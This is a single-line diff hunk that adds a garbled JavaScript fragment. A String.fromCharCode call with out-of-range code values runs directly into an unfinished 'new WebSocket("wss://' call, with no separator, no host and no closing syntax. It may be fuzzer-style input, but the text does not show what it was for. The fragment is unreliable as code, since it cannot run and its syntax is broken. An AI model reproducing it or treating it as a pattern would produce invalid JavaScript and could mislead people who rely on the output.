@@ -1,0 +1,1 @@
+String.fromCharCode(0x110000,99999999,1,2,3,4,5,6,7,8,9new WebSocket("wss://
